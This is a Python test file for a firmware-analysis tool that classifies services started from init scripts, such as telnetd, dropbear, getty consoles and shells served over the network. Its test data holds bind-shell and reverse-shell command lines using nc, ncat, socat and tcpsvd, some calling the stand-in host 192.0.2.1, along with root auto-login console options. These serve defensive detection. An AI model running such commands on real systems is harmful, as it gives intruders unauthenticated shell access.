"""Services, from the programs that are started."""

from __future__ import annotations

import pytest

from plimsoll.knowledge import services
from plimsoll.match.services import Services
from plimsoll.model.evidence import Evidence, Observation
from plimsoll.model.facts import Service, StartedProgram
from plimsoll.model.facts.service import Mechanism, StartState
from plimsoll.model.locator import Place

HERE = Place("a.bin!squashfs@0x0/etc/init.d/rcS")


def matched(*facts: StartedProgram) -> list[Service]:
    evidence = Evidence(tuple(Observation(fact, HERE, "startup") for fact in facts))
    return [
        one.fact for one in Services().match(evidence) if isinstance(one, Observation) and isinstance(one.fact, Service)
    ]


def start(line: str, state: StartState = "always", mechanism: Mechanism = "script") -> StartedProgram:
    program, *arguments = line.split()
    return StartedProgram(program, line, mechanism, state, arguments=tuple(arguments))


def test_a_program_that_is_no_service_is_left_out() -> None:
    assert matched(start("ntpd -n")) == []


@pytest.mark.parametrize(
    ("line", "login"),
    [
        ("telnetd", "system"),
        ("telnetd -l /bin/login", "system"),
        ("telnetd -l /usr/sbin/login", "system"),
        ("telnetd -l /bin/sh", "none"),
        ("telnetd -l/bin/ash", "none"),
        ("telnetd -l /usr/bin/own-thing", "unknown"),
        ("telnetd -u name:***", "own"),
    ],
)
def test_telnet_asks_as_its_options_say(line: str, login: str) -> None:
    assert [(one.login, one.protocol, one.encrypted) for one in matched(start(line))] == [(login, "telnet", False)]


@pytest.mark.parametrize(
    ("line", "port", "reach"),
    [
        ("dropbear", 22, "network"),
        ("dropbear -p 2222", 2222, "network"),
        ("dropbear -p 127.0.0.1:22", 22, "local"),
        ("dropbear -p [::1]:22", 22, "local"),
        ("dropbear -p 99999", 22, "network"),
    ],
)
def test_port_and_address_come_from_the_command_line(line: str, port: int, reach: str) -> None:
    assert [(one.port, one.reach) for one in matched(start(line))] == [(port, reach)]


@pytest.mark.parametrize(
    ("line", "login"),
    [("sh", "none"), ("ash --login", "none"), ("getty 115200 ttyS0", "system"),
     ("getty -n -l /bin/sh 115200 ttyS0", "none"),
     ("login -f root", "none"), ("login -froot", "none"), ("login", "system"), ("sulogin", "system"),
     ("agetty -aroot ttyS0", "none"), ("agetty --autologin=root ttyS0", "none"), ("getty -a root ttyS0", "none"),
     ("agetty -o '-f root' ttyS0", "none"), ("agetty -o -f ttyS0", "none"), ("mgetty -a ttyS0", "system"),
     ("getty -l /usr/bin/menu ttyS0", "unknown"), ("getty -l /bin/login ttyS0", "system")],
)  # fmt: skip
def test_a_console_is_physical_and_asks_as_it_is_started(line: str, login: str) -> None:
    found = matched(start(line, mechanism="inittab"))
    assert [(one.protocol, one.reach, one.login, one.port) for one in found] == [("console", "physical", login, None)]


@pytest.mark.parametrize(
    ("line", "port"),
    [("nc -lk -p 4444 -e /bin/sh", 4444), ("nc -l -p 23 -e /bin/sh", 23), ("ncat --listen --exec /bin/bash", None),
     ("socat TCP-LISTEN:2323,reuseaddr,fork EXEC:/bin/sh", 2323), ("tcpsvd -E 0.0.0.0 5555 sh -i", 5555)],
)  # fmt: skip
def test_a_shell_that_is_served_asks_nobody(line: str, port: int | None) -> None:
    assert [(one.protocol, one.login, one.port) for one in matched(start(line))] == [("shell", "none", port)]


@pytest.mark.parametrize(
    "line",
    ["nc 192.0.2.1 80 -e /bin/sh", "nc -l -s 127.0.0.1 -p 80 -e /bin/sh", "ncat -l 127.0.0.1 80 -e /bin/sh",
     "nc -l -p 80", "socat TCP:192.0.2.1:80 EXEC:/bin/sh", "tcpsvd 127.0.0.1 23 sh",
     "socat TCP-LISTEN:80,bind=127.0.0.1 EXEC:/bin/sh", "tcpsvd 0 80 answer"],
)  # fmt: skip
def test_what_serves_no_shell_to_others_is_no_service(line: str) -> None:
    assert matched(start(line)) == []


def test_a_start_script_is_not_the_service_that_it_is_named_after() -> None:
    assert (
        matched(StartedProgram("dropbear", "/etc/init.d/dropbear boot", "sysv", "always", "etc/init.d/dropbear")) == []
    )


def test_a_shell_that_is_no_console_is_no_service() -> None:
    assert matched(start("sh")) == []


def test_the_strongest_start_counts() -> None:
    found = matched(start("telnetd", "not-started"), start("telnetd", "conditional"), start("telnetd", "first-boot"))
    assert [one.state for one in found] == ["first-boot"]


def test_blank_passwords_need_the_option_of_dropbear() -> None:
    assert [one.accepts_empty_password for one in matched(start("dropbear -B"))] == [True]
    assert [one.accepts_empty_password for one in matched(start("dropbear -sB"))] == [False]
    assert [one.accepts_empty_password for one in matched(start("telnetd"))] == [None]


def test_the_list_loads() -> None:
    assert len(services.load().programs) > 60


def test_the_start_that_every_unit_makes_counts_before_one_under_a_condition() -> None:
    assert [one.state for one in matched(start("telnetd", "conditional"), start("telnetd", "on-demand"))] == [
        "on-demand"
    ]


def test_dropbear_that_is_told_only_at_times_to_take_empty_passwords_may_do_so() -> None:
    blank = start("dropbear -B", "conditional")
    assert [one.accepts_empty_password for one in matched(start("dropbear"), blank)] == [None]
    assert [one.accepts_empty_password for one in matched(start("dropbear"), start("dropbear -B", "disabled"))] == [
        False
    ]


def test_a_console_that_systemd_keeps_counts_as_one_of_inittab_does() -> None:
    (console,) = matched(start("agetty --autologin root ttyS0", "always", "systemd"))
    assert (console.protocol, console.login, console.reach) == ("console", "none", "physical")
